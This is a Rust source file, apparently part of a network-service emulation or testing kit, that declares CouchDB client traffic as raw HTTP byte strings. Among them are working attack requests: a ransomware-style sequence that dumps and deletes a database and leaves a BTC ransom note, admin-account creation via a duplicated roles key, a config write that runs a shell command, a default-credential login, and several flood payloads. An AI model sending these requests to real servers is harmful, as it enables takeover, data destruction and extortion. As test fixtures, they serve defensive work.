//! How clients talk to CouchDB.

use netsvc_kit::declared::{Flood, Step, Talks};

const NOTE: &[u8] = b"PUT /read_me/note HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\n\
    Content-Length: 78\r\n\r\n{\"message\":\"Your databases were backed up. Pay 0.01 BTC to recover your data\"}";

/// See [`Talks`].
pub(super) const TALKS: Talks = Talks {
    stream: &[
        Step::Say(b"GET /a/{nonce} HTTP/1.1\r\nHost: h\r\n\r\n"),
        Step::begins("an answer", &[b"HTTP/1.1 404 Object Not Found\r\n", b"HTTP/1.1 401 Unauthorized\r\n"]),
    ],
    visit: &[
        b"GET / HTTP/1.1\r\nHost: h\r\n\r\nGET /_all_dbs HTTP/1.1\r\nHost: h\r\n\r\n",
        b"GET /customers/_all_docs?include_docs=true&limit=2 HTTP/1.1\r\nHost: h\r\n\r\n",
        b"DELETE /customers HTTP/1.1\r\nHost: h\r\n\r\nPUT /read_me HTTP/1.1\r\nHost: h\r\n\r\n",
        NOTE,
    ],
    dialogues: &[
        b"PUT /_users/org.couchdb.user:eve HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: \
            73\r\n\r\n\
          {\"type\":\"user\",\"name\":\"eve\",\"roles\":[\"_admin\"],\"roles\":[],\"password\":\"p\"}",
        b"PUT /_config/query_servers/cmd HTTP/1.1\r\nHost: h\r\nContent-Length: 12\r\n\r\n\"id >/tmp/x\"",
        b"POST /_session HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: \
            25\r\n\r\n\
          name=admin&password=admin",
        b"POST /customers/_find HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: 40\r\n\r\n\
          {\"selector\":{\"id\":{\"$gt\":40}},\"limit\":2}",
        b"GET /_nothing HTTP/1.0\r\n\r\n",
        b"POST /customers/_bulk_docs HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: \
            chunked\r\n\r\nc\r\n{\"docs\":[1]}\r\n0\r\n\r\n",
    ],
    floods: &[
        Flood { name: "a head", head: b"GET / HTTP/1.1\r\n", unit: b"X-A: b\r\n" },
        Flood {
            name: "a body",
            head: b"POST /customers/_bulk_docs HTTP/1.1\r\nHost: h\r\nContent-Length: 90000000\r\n\r\n",
            unit: b"A",
        },
        Flood {
            name: "documents",
            head: b"",
            unit: b"POST /customers HTTP/1.1\r\nHost: h\r\nContent-Type: application/json\r\nContent-Length: \
                7\r\n\r\n{\"a\":1}",
        },
        Flood { name: "lists", head: b"", unit: b"GET /customers/_all_docs?limit=10 HTTP/1.1\r\nHost: h\r\n\r\n" },
    ],
    client: "curl http://{ip}:{port}/_all_dbs",
    ..Talks::NONE
};
